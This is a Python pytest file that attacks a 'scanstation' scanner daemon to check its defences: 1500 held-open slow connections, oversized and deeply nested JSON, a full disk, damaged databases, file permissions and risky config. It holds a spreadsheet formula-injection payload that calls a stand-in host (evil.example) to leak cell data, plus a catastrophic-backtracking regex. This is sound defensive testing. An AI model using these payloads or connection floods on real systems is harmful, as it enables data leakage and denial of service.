"""What an attacker or a bad day does to `scanstation run`: real subprocess, real sockets,
a real tmpfs for the full disk (as root), real damaged database files."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import os
import resource
import shutil
import socket
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from conftest import SCANSTATION, DaemonProcess

API = "/scanner/api/v1"


def _key(daemon: DaemonProcess) -> str:
    result = subprocess.run(
        [*SCANSTATION, "api-key", "create", "--config", str(daemon.config_path)],
        capture_output=True, text=True, check=True, timeout=60,
    )  # fmt: skip
    return result.stdout.strip().splitlines()[-1]


def _storage(daemon: DaemonProcess) -> Path:
    text = daemon.config_path.read_text()
    return Path(text.split('path = "', 1)[1].split('"', 1)[0])


async def _healthz(url: str, timeout: float = 3.0) -> tuple[int, dict[str, Any]]:
    async with (
        aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=timeout)) as http,
        http.get(f"{url}/healthz") as resp,
    ):
        return resp.status, await resp.json()


# ---- 2: a crowd of unfinished requests ----------------------------------------------------


def _low_fd_limit() -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))


async def test_1500_unfinished_requests_do_not_starve_healthz_or_flood_the_log(
    daemon_factory: Callable[..., DaemonProcess],
) -> None:
    daemon = daemon_factory()
    daemon.start(preexec=_low_fd_limit)
    port = int(daemon.url.rsplit(":", 1)[1])
    held: list[socket.socket] = []
    try:
        for _ in range(1500):
            s = socket.socket()
            s.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                s.connect(("127.0.0.1", port))
            held.append(s)
        await asyncio.sleep(1.5)
        for s in held:  # every one starts a request and never finishes its headers
            with contextlib.suppress(OSError):
                s.send(b"GET /scanner/api/v1/sessions HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        await asyncio.sleep(5)
        assert daemon.proc is not None
        open_fds = len(os.listdir(f"/proc/{daemon.proc.pid}/fd"))
        answers = [await _healthz(daemon.url) for _ in range(5)]
    finally:
        for s in held:
            s.close()
    assert open_fds < 1000  # the cap holds, well below the limit
    assert [status for status, _ in answers] == [200] * 5
    log = (daemon.log_path or Path()).read_text()
    assert log.count("Too many open files") <= 5
    assert len(log) < 200_000


# ---- 3: CSV exports ---------------------------------------------------------------------


async def test_csv_exports_neutralise_formulas_over_http_and_the_cli(
    daemon_factory: Callable[..., DaemonProcess],
) -> None:
    daemon = daemon_factory()
    key = _key(daemon)
    daemon.start()
    async with aiohttp.ClientSession(headers={"X-API-Key": key}) as http:
        async with http.put(
            f"{daemon.url}{API}/products/4006381333931",
            json={"name": '=HYPERLINK("http://evil.example/?x="&A1,"open")', "brand": "@SUM(1)"},
        ) as resp:
            assert resp.status in (200, 201), await resp.text()
        async with http.post(f"{daemon.url}{API}/sessions", json={}) as resp:
            session = (await resp.json())["public_id"]
        async with http.post(
            f"{daemon.url}{API}/captures",
            json={
                "session_public_id": session,
                "capture_type": "BARCODE",
                "raw_value": "]C1010950600013435210-1+2",
            },
        ) as resp:
            assert resp.status == 201, await resp.text()
        await asyncio.sleep(1.0)
        async with http.get(f"{daemon.url}{API}/exports/products.csv") as resp:
            products = list(csv.DictReader(io.StringIO(await resp.text())))
        async with http.get(f"{daemon.url}{API}/exports/scans.csv") as resp:
            scans = list(csv.DictReader(io.StringIO(await resp.text())))
    cli = subprocess.run(
        [*SCANSTATION, "export", "products", "--config", str(daemon.config_path)],
        capture_output=True, text=True, check=True, timeout=60,
    )  # fmt: skip
    from_cli = list(csv.DictReader(io.StringIO(cli.stdout)))
    for rows in (products, from_cli):
        assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"open")'
        assert rows[0]["brand"] == "'@SUM(1)"
    assert scans[0]["batch"] == "'-1+2"


# ---- 5: a real full disk ----------------------------------------------------------------


@pytest.fixture
def small_tmpfs(tmp_path: Path) -> Iterator[Path]:
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("SKIPPED (disk full): needs root to mount a tmpfs")
    mount = tmp_path / "tmpfs"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=24m", "tmpfs", str(mount)],
                          capture_output=True, check=False)  # fmt: skip
    if done.returncode != 0:
        pytest.skip(f"SKIPPED (disk full): cannot mount a tmpfs: {done.stderr.decode()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def _fill(path: Path) -> None:
    with path.open("wb") as f:
        with contextlib.suppress(OSError):
            while True:
                f.write(b"\0" * 65536)
                f.flush()
        with contextlib.suppress(OSError):
            os.fsync(f.fileno())


async def test_a_full_disk_answers_503_degrades_health_and_the_walk_resumes(
    daemon_factory: Callable[..., DaemonProcess], small_tmpfs: Path
) -> None:
    daemon = daemon_factory()
    text = daemon.config_path.read_text()
    storage = _storage(daemon)
    text = text.replace(f'path = "{storage}"', f'path = "{small_tmpfs / "var"}"\ndisk_floor_mb = 0')
    daemon.config_path.write_text(text)
    key = _key(daemon)
    daemon.start()
    statuses: list[int] = []
    acknowledged: list[str] = []
    async with aiohttp.ClientSession(headers={"X-API-Key": key}) as http:
        async with http.post(f"{daemon.url}{API}/sessions", json={}) as resp:
            session = (await resp.json())["public_id"]

        async def post(i: int) -> None:
            async with http.post(
                f"{daemon.url}{API}/captures",
                json={"session_public_id": session, "capture_type": "BARCODE",
                      "raw_value": f"4006381333931-{i}", "metadata": {"pad": "x" * 400}},
            ) as resp:  # fmt: skip
                statuses.append(resp.status)
                if resp.status == 201:
                    acknowledged.append((await resp.json())["public_id"])
                else:
                    body = await resp.json()
                    assert body["error"]["code"] == "disk_full", body

        for i in range(20):
            await post(i)
        filler = small_tmpfs / "filler"
        await asyncio.to_thread(_fill, filler)
        for i in range(20, 220):
            await post(i)
        health_full = await _healthz(daemon.url)
        filler.unlink()
        await asyncio.sleep(3)
        for i in range(220, 230):
            await post(i)
        deadline = time.monotonic() + 15
        while True:
            states = []
            for public_id in acknowledged:
                async with http.get(f"{daemon.url}{API}/captures/{public_id}") as resp:
                    states.append((await resp.json())["status"])
            if all(s in ("COMPLETED", "NOT_FOUND", "FAILED") for s in states):
                break
            assert time.monotonic() < deadline, f"still in progress: {set(states)}"
            await asyncio.sleep(0.5)
        health_after = await _healthz(daemon.url)
    assert 500 not in statuses
    assert 503 in statuses  # the disk really filled up
    assert health_full[0] == 503
    assert health_full[1]["status"] == "degraded"
    assert "disk is full" in health_full[1]["db"]
    assert health_after[0] == 200
    assert statuses[-10:] == [201] * 10  # space is back: new captures are taken again
    assert "Traceback" not in (daemon.log_path or Path()).read_text()
    daemon.stop()
    db = small_tmpfs / "var" / "scanstation.db"
    with contextlib.closing(sqlite3.connect(db)) as con:
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        unfinished = con.execute(
            "SELECT count(*) FROM captures WHERE status IN "
            "('PENDING', 'LOOKING_UP', 'ENRICHING', 'RESOLVING')"
        ).fetchone()[0]
    assert unfinished == 0


# ---- 6: nested and oversized JSON over HTTP -----------------------------------------------


async def test_nested_and_chunked_json_gets_400_or_413_never_500(
    daemon_factory: Callable[..., DaemonProcess],
) -> None:
    daemon = daemon_factory()
    key = _key(daemon)
    daemon.start()
    deep = ("[" * 5000 + "]" * 5000).encode()

    async def chunks(body: bytes) -> Any:
        for start in range(0, len(body), 65536):
            yield body[start : start + 65536]

    async with aiohttp.ClientSession() as http:
        async with http.post(
            f"{daemon.url}/auth/login",
            data=chunks(b'{"password": ' + b"[" * 400 + b"]" * 400 + b"}"),
            headers={"Content-Type": "application/json"},
        ) as resp:
            login_deep = resp.status, await resp.json()
        huge = json.dumps({"password": "p" * 9_000_000}).encode()
        async with http.post(
            f"{daemon.url}/auth/login",
            data=chunks(huge),
            headers={"Content-Type": "application/json"},
        ) as resp:
            login_huge = resp.status, await resp.json()
        statuses = {}
        for path in ("/sessions", "/captures", "/products/4006381333931"):
            method = http.put if path.startswith("/products") else http.post
            async with method(
                f"{daemon.url}{API}{path}",
                data=deep,
                headers={"X-API-Key": key, "Content-Type": "application/json"},
            ) as resp:
                statuses[path] = resp.status, (await resp.json())["error"]["message"]
        async with http.post(
            f"{daemon.url}{API}/sessions",
            data=chunks(b'{"metadata": {"k": "' + b"v" * 3_000_000 + b'"}}'),
            headers={"X-API-Key": key, "Content-Type": "application/json"},
        ) as resp:
            big_session = resp.status
    assert login_deep[0] == 400
    assert "nested 401 levels deep; at most 32" in login_deep[1]["error"]["message"]
    assert login_huge[0] == 413
    assert all(status == 400 and "nested" in msg for status, msg in statuses.values()), statuses
    assert big_session == 413
    assert "Traceback" not in (daemon.log_path or Path()).read_text()


# ---- 7: a damaged database at start -------------------------------------------------------


def _gtin13(first12: int) -> str:
    digits = f"{first12:012d}"
    total = sum(int(d) * (3 if i % 2 else 1) for i, d in enumerate(digits))
    return digits + str((10 - total % 10) % 10)


def _run_briefly(daemon: DaemonProcess, timeout: float = 20) -> tuple[int, float, str]:
    started = time.monotonic()
    try:
        done = subprocess.run(
            [*SCANSTATION, "run", "--config", str(daemon.config_path)],
            capture_output=True, text=True, timeout=timeout, check=False,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        return -1, time.monotonic() - started, "still running"
    return done.returncode, time.monotonic() - started, done.stderr


@pytest.mark.parametrize("damage", ["garbage", "truncated"])
def test_a_damaged_database_exits_1_within_seconds_naming_the_file(
    daemon_factory: Callable[..., DaemonProcess], damage: str
) -> None:
    daemon = daemon_factory()
    storage = _storage(daemon)
    storage.mkdir(parents=True)
    db = storage / "scanstation.db"
    if damage == "garbage":
        db.write_bytes(os.urandom(64 * 1024))
    else:
        with contextlib.closing(sqlite3.connect(db)) as con:
            con.execute("CREATE TABLE t (x)")
            con.executemany("INSERT INTO t VALUES (?)", [("x" * 500,)] * 2000)
            con.commit()
        data = db.read_bytes()
        db.write_bytes(data[: len(data) // 3])
    code, took, stderr = _run_briefly(daemon)
    assert (code, took < 10) == (1, True), stderr
    assert str(db) in stderr
    assert "scanstation db recover" in stderr


def test_db_check_and_recover_salvage_a_damaged_station_database(
    daemon_factory: Callable[..., DaemonProcess],
) -> None:
    daemon = daemon_factory()
    storage = _storage(daemon)
    catalog = storage.parent / "catalog.csv"
    catalog.write_text(
        "gtin,name,ingredients\n"
        + "".join(f"{_gtin13(400638130000 + i)},product {i},{'x' * 300}\n" for i in range(2000))
    )
    subprocess.run(
        [*SCANSTATION, "catalog", "import", str(catalog), "--config", str(daemon.config_path)],
        capture_output=True, check=True, timeout=60,
    )  # fmt: skip
    db = storage / "scanstation.db"
    check = [*SCANSTATION, "db", "check", "--config", str(daemon.config_path)]
    assert subprocess.run(check, capture_output=True, check=False, timeout=60).returncode == 0
    data = bytearray(db.read_bytes())
    middle = len(data) // 2 // 4096 * 4096
    data[middle : middle + 4096 * 4] = os.urandom(4096 * 4)
    db.write_bytes(bytes(data))
    damaged = subprocess.run(check, capture_output=True, text=True, check=False, timeout=60)
    assert damaged.returncode == 1
    assert "damaged" in damaged.stderr
    recover = [*SCANSTATION, "db", "recover", "--config", str(daemon.config_path)]
    done = subprocess.run(recover, capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "kept the damaged file as" in done.stdout
    salvaged = int(done.stdout.split("products: ", 1)[1].split()[0])
    assert 0 < salvaged < 2000
    assert subprocess.run(check, capture_output=True, check=False, timeout=60).returncode == 0
    daemon.start()  # the salvaged database opens
    daemon.stop()


# ---- 9: file modes outside systemd ----------------------------------------------------------


async def test_storage_is_private_whatever_the_umask(
    daemon_factory: Callable[..., DaemonProcess],
) -> None:
    daemon = daemon_factory()
    daemon.start(preexec=lambda: os.umask(0o022) and None)
    key = (_storage(daemon) / "initial-api-key.txt").read_text().strip().splitlines()[-1]
    async with (
        aiohttp.ClientSession(headers={"X-API-Key": key}) as http,
        http.post(f"{daemon.url}{API}/sessions", json={}) as resp,
    ):
        assert resp.status == 201
    storage = _storage(daemon)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in storage.iterdir() if p.is_file()}
    assert stat.S_IMODE(storage.stat().st_mode) == 0o700
    assert {"scanstation.db", "scanstation.db-wal", "scanstation.db-shm"} <= set(modes)
    assert {name: mode for name, mode in modes.items() if mode != 0o600} == {}
    daemon.stop()


# ---- 10: risky settings -------------------------------------------------------------------


def test_check_config_warns_of_risky_settings_and_refuses_a_backtracking_pattern(
    tmp_path: Path,
) -> None:
    config = tmp_path / "risky.toml"
    config.write_text(
        '[storage]\npath = "/dev/null"\ndisk_floor_mb = 0\n'
        '[http]\nbind = "0.0.0.0:8080"\n'
        '[qr_analysis]\nallow_networks = ["0.0.0.0/0"]\nallow_endpoints = ["127.0.0.1:8099"]\n'
    )
    done = subprocess.run(
        [*SCANSTATION, "run", "--check-config", "--config", str(config)],
        capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    warnings = [line for line in done.stderr.splitlines() if line.startswith("warning: ")]
    keys = [w.split()[1] for w in warnings]
    assert keys == [
        "storage.path",
        "storage.disk_floor_mb",
        "http.bind",
        "qr_analysis.allow_networks",
        "qr_analysis.allow_endpoints",
    ]
    assert "0.0.0.0/0" in warnings[3]
    assert "127.0.0.1:8099" in warnings[4]
    config.write_text(
        f'[storage]\npath = "{tmp_path}"\n'
        '[[outputs]]\ntype = "serial"\nport = "/dev/null"\n'
        '[outputs.match]\npattern = "(\\\\w+\\\\s?)*$"\n'
    )
    done = subprocess.run(
        [*SCANSTATION, "run", "--check-config", "--config", str(config)],
        capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    assert done.returncode == 2, done.stdout + done.stderr
    assert "exponential time" in done.stderr


def test_a_low_open_file_limit_is_raised_or_warned_of_at_start(tmp_path: Path) -> None:
    def hard_limit_300() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (100, 300))

    probe = (
        "import resource; from scanstation.web.limits import raise_fd_limit as r; "
        "print(repr(r(64))); print(resource.getrlimit(resource.RLIMIT_NOFILE)[0]); "
        "print(r(256))"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], preexec_fn=hard_limit_300,
        capture_output=True, text=True, check=True, timeout=60,
    )  # fmt: skip
    first, soft, warning = done.stdout.splitlines()
    assert (first, soft) == ("''", "300")  # lifted to the hard limit: enough for 64 + 128
    assert warning.startswith("the open-file limit is 300 (hard 300), below the 384 that")
    assert "LimitNOFILE" in warning
